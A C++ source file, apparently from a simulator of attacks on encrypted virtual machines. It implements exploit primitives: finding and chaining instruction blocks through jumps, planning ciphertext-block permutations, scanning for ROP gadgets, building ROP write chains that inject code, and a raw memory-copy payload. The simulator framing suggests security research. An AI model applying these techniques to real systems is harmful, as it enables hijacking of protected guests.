#include "sevsim/gadgets.hpp"

#include <algorithm>
#include <map>

namespace sevsim {

namespace {

ByteSpan block_at(ByteSpan image, std::size_t index)
{
    return image.subspan(index * kBlockSize, kBlockSize);
}

std::size_t block_count_of(ByteSpan image)
{
    if (image.size() % kBlockSize != 0)
        throw Error(Errc::LengthNotMultipleOf16, "image length must be a multiple of 16");
    return image.size() / kBlockSize;
}

/// The link (if any) that starts at (block, entry) with the given payload.
std::optional<ChainLink> link_at(ByteSpan block, std::size_t block_index, std::uint8_t entry,
                                 InstrKind wanted)
{
    const Instr payload = decode_at(block, entry);
    if (payload.kind != wanted || payload.kind == InstrKind::Unknown)
        return std::nullopt;
    const std::size_t end = entry + payload.length;

    ChainLink link;
    link.block_index = block_index;
    link.entry_offset = entry;
    link.payload = wanted;
    if (end == kBlockSize) {
        link.exit = ExitKind::Fallthrough;
        return link;
    }
    const Instr jump = decode_at(block, end);
    if (!jump.is_jump())
        return std::nullopt;
    const std::int64_t target = static_cast<std::int64_t>(end + jump.length) + jump.disp;
    if (target < static_cast<std::int64_t>(kBlockSize) ||
        target >= static_cast<std::int64_t>(2 * kBlockSize))
        return std::nullopt;
    link.exit = ExitKind::Jmp;
    link.jump = jump.kind;
    link.next_entry = static_cast<std::uint8_t>(target - kBlockSize);
    return link;
}

std::uint8_t exit_entry(const ChainLink& link)
{
    return link.exit == ExitKind::Fallthrough ? 0 : link.next_entry;
}

struct LinkOrder {
    bool operator()(const ChainLink& a, const ChainLink& b) const
    {
        return std::tie(a.block_index, a.entry_offset) < std::tie(b.block_index, b.entry_offset);
    }
};

class ChainSearch {
public:
    ChainSearch(std::vector<std::vector<ChainLink>> links) : links_(std::move(links))
    {
        const std::size_t n = links_.size();
        // finishable_[p][e]: some link sequence realizes payloads p.. when
        // entering the p-th block at offset e (block reuse ignored here).
        finishable_.assign(n + 1, std::array<bool, kBlockSize>{});
        finishable_[n].fill(true);
        for (std::size_t p = n; p-- > 0;)
            for (const auto& l : links_[p])
                if (finishable_[p + 1][exit_entry(l)] || p + 1 == n)
                    finishable_[p][l.entry_offset] = true;
    }

    std::optional<std::vector<ChainLink>> run(std::optional<std::uint8_t> entry)
    {
        path_.clear();
        used_.clear();
        if (extend(0, entry))
            return path_;
        return std::nullopt;
    }

private:
    bool extend(std::size_t pos, std::optional<std::uint8_t> entry)
    {
        if (pos == links_.size())
            return true;
        for (const auto& l : links_[pos]) {
            if (entry && l.entry_offset != *entry)
                continue;
            if (used_.contains(l.block_index))
                continue;
            if (pos + 1 < links_.size() && !finishable_[pos + 1][exit_entry(l)])
                continue;
            path_.push_back(l);
            used_.insert(l.block_index);
            if (extend(pos + 1, exit_entry(l)))
                return true;
            used_.erase(l.block_index);
            path_.pop_back();
        }
        return false;
    }

    std::vector<std::vector<ChainLink>> links_;
    std::vector<std::array<bool, kBlockSize>> finishable_;
    std::vector<ChainLink> path_;
    std::set<std::size_t> used_;
};

}  // namespace

bool link_is_valid(ByteSpan image, const ChainLink& link)
{
    if (image.size() % kBlockSize != 0 || link.block_index >= image.size() / kBlockSize ||
        link.entry_offset >= kBlockSize)
        return false;
    auto expected = link_at(block_at(image, link.block_index), link.block_index, link.entry_offset,
                            link.payload);
    return expected && *expected == link;
}

bool chain_is_valid(ByteSpan image, std::span<const ChainLink> chain)
{
    std::set<std::size_t> blocks;
    for (std::size_t i = 0; i < chain.size(); ++i) {
        if (!link_is_valid(image, chain[i]) || !blocks.insert(chain[i].block_index).second)
            return false;
        if (i + 1 < chain.size() && exit_entry(chain[i]) != chain[i + 1].entry_offset)
            return false;
    }
    return true;
}

std::vector<ChainLink> scan_chain_links(ByteSpan image, InstrKind wanted)
{
    const std::size_t blocks = block_count_of(image);
    std::vector<ChainLink> out;
    for (std::size_t b = 0; b < blocks; ++b) {
        const auto block = block_at(image, b);
        for (std::uint8_t e = 0; e < kBlockSize; ++e)
            if (auto link = link_at(block, b, e, wanted))
                out.push_back(*link);
    }
    return out;
}

std::vector<ChainLink> build_block_chain(ByteSpan image, std::span<const InstrKind> payloads,
                                         const ChainSearchOptions& options)
{
    block_count_of(image);
    if (payloads.empty())
        return {};

    std::map<InstrKind, std::vector<ChainLink>> by_kind;
    for (auto kind : payloads) {
        if (by_kind.contains(kind))
            continue;
        auto links = scan_chain_links(image, kind);
        std::erase_if(links, [&](const ChainLink& l) {
            return options.excluded_blocks.contains(l.block_index);
        });
        std::sort(links.begin(), links.end(), LinkOrder{});
        by_kind.emplace(kind, std::move(links));
    }

    for (bool allow_rel32 : {false, true}) {
        std::vector<std::vector<ChainLink>> per_position;
        for (auto kind : payloads) {
            auto links = by_kind.at(kind);
            if (!allow_rel32)
                std::erase_if(links, [](const ChainLink& l) { return l.jump == InstrKind::JmpRel32; });
            per_position.push_back(std::move(links));
        }
        if (auto chain = ChainSearch(std::move(per_position)).run(options.entry_offset))
            return *chain;
    }
    throw Error(Errc::NoChainFound, "no block chain realizes the requested payload sequence");
}

// ---------------------------------------------------------------------------

bool PermutationPlan::is_identity() const
{
    for (std::size_t slot = 0; slot < placement.size(); ++slot)
        if (placement[slot].block_index != slot)
            return false;
    return true;
}

std::vector<std::uint64_t> PermutationPlan::block_hpas() const
{
    std::vector<std::uint64_t> out(placement.size());
    for (const auto& p : placement)
        out.at(p.block_index) = p.hpa;
    return out;
}

Bytes PermutationPlan::placed_image(ByteSpan image) const
{
    if (image.size() != placement.size() * kBlockSize)
        throw Error(Errc::PlanImageMismatch, "plan and image sizes differ");
    Bytes out(image.size());
    for (std::size_t slot = 0; slot < placement.size(); ++slot) {
        const auto src = block_at(image, placement[slot].block_index);
        std::copy(src.begin(), src.end(), out.begin() + slot * kBlockSize);
    }
    return out;
}

std::vector<LoadCall> data_order_loads(std::span<const std::uint64_t> block_hpas,
                                       std::uint64_t gpa_base, std::uint64_t hpa_base)
{
    std::vector<LoadCall> calls;
    for (std::size_t i = 0; i < block_hpas.size(); ++i) {
        const std::uint64_t hpa = block_hpas[i];
        const std::uint64_t gpa = gpa_base + (hpa - hpa_base);
        const bool chunk_start = (i * kBlockSize) % kPageSize == 0;
        if (!calls.empty() && !chunk_start && calls.back().hpa + calls.back().length == hpa) {
            calls.back().length += kBlockSize;
        } else {
            calls.push_back(LoadCall{hpa, gpa, kBlockSize});
        }
    }
    return calls;
}

PermutationPlan plan_permutation(ByteSpan image, std::span<const ChainLink> chain,
                                 std::size_t entry_hook, const std::set<std::size_t>& do_not_move,
                                 std::uint64_t gpa_base, std::uint64_t hpa_base)
{
    const std::size_t blocks = block_count_of(image);
    if (!is_aligned(hpa_base, kBlockSize) || !is_aligned(gpa_base, kBlockSize))
        throw Error(Errc::UnalignedAddress, "image bases must be 16-byte aligned");
    if (!chain_is_valid(image, chain))
        throw Error(Errc::InvalidArgument, "chain is not valid for this image");
    if (entry_hook + chain.size() > blocks)
        throw Error(Errc::PlacementConflict, "chain runs past the end of the image");

    // slot -> block currently placed there
    std::vector<std::size_t> at_slot(blocks);
    for (std::size_t i = 0; i < blocks; ++i)
        at_slot[i] = i;
    for (std::size_t k = 0; k < chain.size(); ++k) {
        const std::size_t target = entry_hook + k;
        const auto src = static_cast<std::size_t>(
            std::find(at_slot.begin(), at_slot.end(), chain[k].block_index) - at_slot.begin());
        std::swap(at_slot[target], at_slot[src]);
    }
    for (std::size_t slot = 0; slot < blocks; ++slot)
        if (at_slot[slot] != slot && do_not_move.contains(at_slot[slot]))
            throw Error(Errc::PlacementConflict,
                        "block " + std::to_string(at_slot[slot]) + " must not move");

    PermutationPlan plan;
    plan.gpa_base = gpa_base;
    plan.hpa_base = hpa_base;
    for (std::size_t slot = 0; slot < blocks; ++slot)
        plan.placement.push_back({at_slot[slot], hpa_base + slot * kBlockSize});
    plan.load_order = data_order_loads(plan.block_hpas(), gpa_base, hpa_base);
    plan.chain.assign(chain.begin(), chain.end());
    plan.chain_entry_hpa = hpa_base + entry_hook * kBlockSize;
    plan.chain_entry_offset = chain.empty() ? 0 : chain.front().entry_offset;
    return plan;
}

// ---------------------------------------------------------------------------

std::string_view rop_kind_name(RopKind kind)
{
    switch (kind) {
    case RopKind::PopRax: return "pop_rax";
    case RopKind::PopRdx: return "pop_rdx";
    case RopKind::WriteRdxToRax: return "write_rdx_to_rax";
    }
    return "?";
}

std::vector<RopGadget> scan_rop_gadgets(ByteSpan image, std::uint64_t load_base_gva)
{
    std::vector<RopGadget> out;
    for (std::size_t off = 0; off < image.size(); ++off) {
        const Instr head = decode_at(image, off);
        RopKind kind;
        switch (head.kind) {
        case InstrKind::PopRax: kind = RopKind::PopRax; break;
        case InstrKind::PopRdx: kind = RopKind::PopRdx; break;
        case InstrKind::MovMemRaxRdx: kind = RopKind::WriteRdxToRax; break;
        default: continue;
        }
        std::size_t pos = off + head.length;
        std::size_t nops = 0;
        while (pos < image.size() && nops <= kMaxGadgetNops) {
            const Instr next = decode_at(image, pos);
            if (next.kind == InstrKind::Ret) {
                out.push_back({load_base_gva + off, kind,
                               Bytes(image.begin() + off, image.begin() + pos + 1)});
                break;
            }
            if (next.kind != InstrKind::Nop || nops == kMaxGadgetNops)
                break;
            ++nops;
            ++pos;
        }
    }
    return out;
}

Bytes RopChain::serialize() const
{
    Bytes out;
    out.reserve(stack_words.size() * 8);
    for (auto w : stack_words)
        append_le64(out, w);
    return out;
}

RopChain build_write_chain(std::span<const RopGadget> gadgets, std::span<const QwordWrite> writes,
                           std::uint64_t final_jump_gva)
{
    auto pick = [&](RopKind kind) -> std::uint64_t {
        const RopGadget* best = nullptr;
        for (const auto& g : gadgets)
            if (g.kind == kind && (best == nullptr || g.gva < best->gva))
                best = &g;
        if (best == nullptr)
            throw Error(Errc::MissingGadgetKind,
                        "no " + std::string(rop_kind_name(kind)) + " gadget available");
        return best->gva;
    };
    RopChain chain;
    if (!writes.empty()) {
        const auto pop_rax = pick(RopKind::PopRax);
        const auto pop_rdx = pick(RopKind::PopRdx);
        const auto store = pick(RopKind::WriteRdxToRax);
        for (const auto& w : writes)
            chain.stack_words.insert(chain.stack_words.end(),
                                     {pop_rax, w.gva, pop_rdx, w.value, store});
    }
    chain.stack_words.push_back(final_jump_gva);
    return chain;
}

std::vector<QwordWrite> code_writes(ByteSpan code, std::uint64_t base_gva)
{
    std::vector<QwordWrite> out;
    for (std::size_t off = 0; off < code.size(); off += 8) {
        std::array<std::uint8_t, 8> word;
        word.fill(0x90);
        std::copy_n(code.begin() + off, std::min<std::size_t>(8, code.size() - off), word.begin());
        out.push_back({base_gva + off, load_le64(word)});
    }
    return out;
}

Bytes copy_payload()
{
    return {0x5e, 0x5f, 0x59, 0xf3, 0xa4, 0xf4};
}

}  // namespace sevsim
